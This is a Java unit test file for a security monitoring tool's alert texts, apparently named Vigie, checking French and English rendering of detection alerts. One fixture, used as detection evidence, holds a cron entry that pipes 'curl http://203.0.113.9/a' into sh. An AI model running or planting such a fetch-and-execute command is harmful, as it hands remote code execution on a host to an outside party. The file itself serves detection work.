package bzh.vigie.collector.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.detect.logon.LogonKind;
import bzh.vigie.collector.detect.persistence.Voucher;
import bzh.vigie.collector.detect.returns.Certainty;
import bzh.vigie.collector.detect.returns.Feature;
import bzh.vigie.collector.detect.sigma.Card;
import bzh.vigie.collector.detect.sigma.Level;
import bzh.vigie.collector.detect.sigma.RuleText;
import bzh.vigie.collector.detect.signin.DeviceLogons;
import bzh.vigie.collector.detect.silence.Uninstalls;
import bzh.vigie.collector.fairness.Resource;
import bzh.vigie.collector.incident.Evictions;
import bzh.vigie.collector.store.Incidents;
import bzh.vigie.event.Event;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemFields;
import bzh.vigie.event.ReasonCode;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

final class AlertTextsTest {
    private static final AlertTexts TEXTS = AlertTexts.shipped();
    private static final Map<String, String> EVIDENCE = Map.of(
            "change", "present",
            "location", "linux.cron.system",
            "name", "backup",
            "source", "/etc/cron.d/backup",
            "value", "curl http://203.0.113.9/a | sh",
            "traits", "inline-script\nnetwork-tool");

    @Test
    void anAlertSpeaksFrenchWithItsEvidence() {
        AlertText text = TEXTS.of("vigie-linux-network-one-liner", EVIDENCE, 1, Locale.FRANCE);
        assertEquals("backup confie à un interpréteur une commande qui utilise le réseau", text.title());
        assertTrue(text.explanation().contains("/etc/cron.d/backup"));
        assertTrue(text.explanation().contains("déjà là quand Vigie a été installé"));
        assertTrue(text.explanation().contains("curl http://203.0.113.9/a | sh"));
        assertTrue(text.advice().contains("/etc/cron.d/backup"));
        assertTrue(text.resolution().contains("retiré"));
    }

    @Test
    void whatAnAgentWroteOfADirectoryInEnglishIsSaidInFrench() {
        Map<String, String> evidence = Map.of(
                "location", "ad.group.privileged",
                "source", "CN=Domain Admins,CN=Users,{domain}",
                "name", "S-1-5-21-1-2-3-1200",
                "change", "added",
                "value", "S-1-5-21-1-2-3-1200 (anne) in Domain Admins");
        AlertText french = TEXTS.of("vigie-directory-administrator-new", evidence, 1, Locale.FRANCE);
        assertEquals(
                "Nouveau membre d’un groupe qui tient le domaine, Domain Admins : anne dans Domain Admins",
                french.title());
        assertTrue(
                french.explanation().contains("anne (S-1-5-21-1-2-3-1200) dans Domain Admins"), french.explanation());
        assertFalse(french.explanation().contains(" in Domain"), french.explanation());
        assertFalse(french.explanation().contains("hôte"), "it is of no host: " + french.explanation());
        AlertText english = TEXTS.of("vigie-directory-administrator-new", evidence, 1, Locale.ENGLISH);
        assertTrue(english.title().endsWith("Domain Admins: anne in Domain Admins"), english.title());
    }

    /** The review: a helpdesk delegation was "run again by itself", and its advice was to keep a copy of the unit. */
    @Test
    void whatIsOrdinaryInADirectoryIsSaidOfItsObjectAndOfNoHost() {
        Map<String, String> evidence = Map.of(
                "location", "ad.rights.unit",
                "source", "OU=Ecoles,{domain}",
                "name", "S-1-5-21-1-2-3-1164 write-property lockoutTime of user below",
                "change", "added",
                "value",
                        "S-1-5-21-1-2-3-1164 (GG-Assistance): write-property lockoutTime, for user, for what lies below");
        for (String rule :
                List.of("vigie-directory-item-added", "vigie-directory-item-changed", "vigie-directory-item-removed")) {
            AlertText text = TEXTS.of(rule, evidence, 1, Locale.FRANCE);
            assertTrue(
                    text.title()
                            .endsWith(
                                    "sur OU Ecoles : GG-Assistance : déverrouiller (lockoutTime), pour user, pour ce qui est dessous"),
                    text.title());
            String all = text.title() + text.explanation() + text.advice();
            assertFalse(all.contains("hôte") || all.contains("se relance") || all.contains("copie de"), all);
            AlertText english = TEXTS.of(rule, evidence, 1, Locale.ENGLISH);
            assertTrue(english.title().contains("on OU Ecoles: GG-Assistance: write-property"), english.title());
        }
    }

    /** Of 45 alerts about what gives the domain 13 named in their titles what they were about; the review's fault 8. */
    @Test
    void eachTitleAboutADirectoryNamesItsObject() {
        List<Card> cards = ShippedRules.load().cards().stream()
                .filter(card -> card.id().startsWith("vigie-directory-"))
                // It is about a registry of a controller.
                .filter(card -> !card.id().equals("vigie-directory-restore-mode-opened"))
                .toList();
        assertTrue(cards.size() > 60, () -> "rules about a directory: " + cards.size());
        assertEquals(
                List.of(),
                cards.stream()
                        .filter(card -> !card.english().title().contains("{object}")
                                || !card.french().title().contains("{object}"))
                        .map(Card::id)
                        .toList());
    }

    @Test
    void whatBelongsToOneActIsListedByObjectWithNamesFirst() {
        Map<String, String> evidence = Map.of(
                "location", "ad.rights.protected",
                "source", "CN=Domain Admins,CN=Users,{domain}",
                "directory.domain", "mairie.example",
                "name", "S-1-5-21-1-2-3-1200 full-control",
                "change", "added",
                "value", "S-1-5-21-1-2-3-1200 (anne): full-control over Domain Admins",
                "together",
                        "ad.rights.domain\tadded\t{domain}\tS-1-5-21-1-2-3-1200 owner\tS-1-5-21-1-2-3-1200 (anne): owner\t\n"
                                + "ad.sysvol.file\tchanged\tSYSVOL\\scripts\\a.bat\ta.bat\t12 bytes\t",
                "together_more", "3");
        AlertText text = TEXTS.of("vigie-directory-taken", evidence, 1, Locale.FRANCE);
        assertEquals(
                "Un droit qui donne tout le domaine, sur Domain Admins : anne : contrôle total (full-control)",
                text.title());
        assertTrue(
                text.explanation()
                        .contains("\n  mairie.example\u00a0: anne (S-1-5-21-1-2-3-1200) : propriétaire (owner)\n"),
                text.explanation());
        assertTrue(
                text.explanation().contains("\n  a.bat\u00a0: 12 octets (modifié)\n  et 3 autres"), text.explanation());
        Map<String, String> there = new HashMap<>(evidence);
        there.put("change", "present");
        assertTrue(TEXTS.of("vigie-directory-taken", there, 1, Locale.FRANCE)
                .title()
                .startsWith("Déjà là, avec 5 autres : Un droit qui donne tout le domaine, sur Domain Admins"));
    }

    @Test
    void anyOtherLocaleGetsEnglishWhateverTheMachineSpeaks() {
        Locale before = Locale.getDefault();
        try {
            Locale.setDefault(Locale.FRANCE);
            AlertText text = TEXTS.of("vigie-linux-network-one-liner", EVIDENCE, 3, Locale.GERMANY);
            assertEquals("backup gives a shell a command that uses the network", text.title());
            assertTrue(text.explanation().contains("already there when Vigie was installed"));
            assertTrue(text.explanation().contains("Reported 3 times."));
        } finally {
            Locale.setDefault(before);
        }
    }

    @Test
    void whatAHostSentCannotMoveTheCursor() {
        AlertText text =
                TEXTS.of("vigie-item-added", Map.of("name", "a\u001b[2J\nb", "source", "/x\u202e"), 1, Locale.ENGLISH);
        assertFalse(text.title().contains("\u001b"));
        assertFalse(text.title().contains("\n"));
        assertFalse(text.explanation().contains("\u202e"));
    }

    @Test
    void aRuleThatIsGoneStillGivesAText() {
        AlertText text = TEXTS.of("somebody-elses-rule", EVIDENCE, 1, Locale.FRENCH);
        assertTrue(text.title().contains("somebody-elses-rule"));
        assertFalse(text.advice().isBlank());
    }

    /** A title stands on lists of rules too, where nothing was found. */
    @Test
    void noSentenceNamesAQuestionMarkWhereSomethingIsNotKnown() {
        for (Locale locale : List.of(Locale.FRENCH, Locale.ENGLISH)) {
            for (Card card : ShippedRules.load().cards()) {
                assertFalse(TEXTS.title(card.id(), locale).orElseThrow().contains("?"), card.id());
                AlertText text = TEXTS.of(card.id(), Map.of("host", "pc-1"), 1, locale);
                assertFalse((text.title() + text.explanation()).contains("?"), card.id() + text);
            }
        }
        assertEquals(
                "Le compte … a été créé",
                TEXTS.title("vigie-linux-account-added", Locale.FRENCH).orElseThrow());
    }

    @Test
    void everyCardGivesWholeTextsInBothLanguages() {
        for (var card : ShippedRules.load().cards()) {
            for (Locale locale : new Locale[] {Locale.FRENCH, Locale.ENGLISH}) {
                AlertText text = TEXTS.of(card.id(), EVIDENCE, 1, locale);
                assertFalse(text.title().isBlank(), card.id());
                assertFalse(text.explanation().isBlank(), card.id());
                assertFalse(text.advice().isBlank(), card.id());
                assertFalse(text.resolution().isBlank(), card.id());
                assertFalse(text.title().contains("{"), card.id());
            }
        }
    }

    @Test
    void everyCodeOfOursIsSaidInWords() {
        Map<String, List<Enum<?>[]>> codes = new HashMap<>(Map.of(
                "traits", List.<Enum<?>[]>of(Item.Trait.values()),
                "shipped", List.<Enum<?>[]>of(Item.Shipped.values()),
                "change", List.<Enum<?>[]>of(Event.Change.values()),
                "reason", List.<Enum<?>[]>of(ReasonCode.values()),
                "logon", List.<Enum<?>[]>of(LogonKind.values()),
                "start", List.<Enum<?>[]>of(Event.StartKind.values()),
                "removal", List.<Enum<?>[]>of(Uninstalls.Removal.values()),
                "matched", List.<Enum<?>[]>of(Feature.values()),
                "eviction", List.<Enum<?>[]>of(Evictions.Place.values()),
                "action",
                        List.of(Event.LogonAction.values(), Event.AccountAction.values(), Event.AgentAction.values())));
        codes.put("certainty", List.<Enum<?>[]>of(Certainty.values()));
        codes.put("device_kind", List.<Enum<?>[]>of(Incidents.DeviceKind.values()));
        codes.put("resource", List.<Enum<?>[]>of(Resource.values()));
        codes.put("rights", List.<Enum<?>[]>of(DeviceLogons.Rights.values()));
        codes.put("vouched", List.<Enum<?>[]>of(Voucher.Kind.values()));
        assertEquals(AlertTexts.CODES, codes.keySet());
        codes.forEach((field, enums) -> {
            for (Enum<?>[] constants : enums) {
                for (Enum<?> constant : constants) {
                    String code = ItemFields.word(constant);
                    String french = said(field, code, Locale.FRENCH);
                    String english = said(field, code, Locale.ENGLISH);
                    assertNotEquals(french, english, code);
                    assertFalse(french.equals(code), code);
                    assertFalse(english.equals(code) && code.contains("-"), code);
                }
            }
        });
    }

    /** As a rule's text has it: the rest of a finding does not matter. */
    private static String said(String field, String code, Locale locale) {
        RuleText text = new RuleText("title", "{" + field + "}", "advice", "resolution");
        Card card = new Card(
                "rule",
                Level.LOW,
                Optional.empty(),
                List.of(),
                text,
                text,
                List.of(),
                List.of(),
                List.of(),
                "",
                "",
                "");
        return new AlertTexts(List.of(card))
                .of("rule", Map.of(field, code), 1, locale)
                .explanation()
                .lines()
                .findFirst()
                .orElseThrow();
    }

    @Test
    void wordsThatWindowsNumbersAreSaidInTheReadersLanguage() {
        assertEquals(
                "compte activé, le mot de passe n'expire jamais, %%65535",
                said("UserAccountControl", "\r\n\t\t%%2048\r\n\t\t%%2089\r\n\t\t%%65535", Locale.FRENCH));
        assertEquals("value added", said("OperationType", "%%14674", Locale.ENGLISH));
        assertEquals(
                "Gestion des groupes de sécurité {0cce9237-69ae-11d9-bed3-505054503030}",
                said("SubcategoryGuid", "{0cce9237-69ae-11d9-bed3-505054503030}", Locale.FRENCH));
    }

    @Test
    void severalCodesOfOneFieldAreAllSaid() {
        String text = TEXTS.of("vigie-linux-network-one-liner", EVIDENCE, 1, Locale.FRENCH)
                .explanation();
        assertTrue(text.contains("un programme dans sa ligne de commande, utilise le réseau"), text);
        assertFalse(text.contains("inline-script"), text);
    }
}
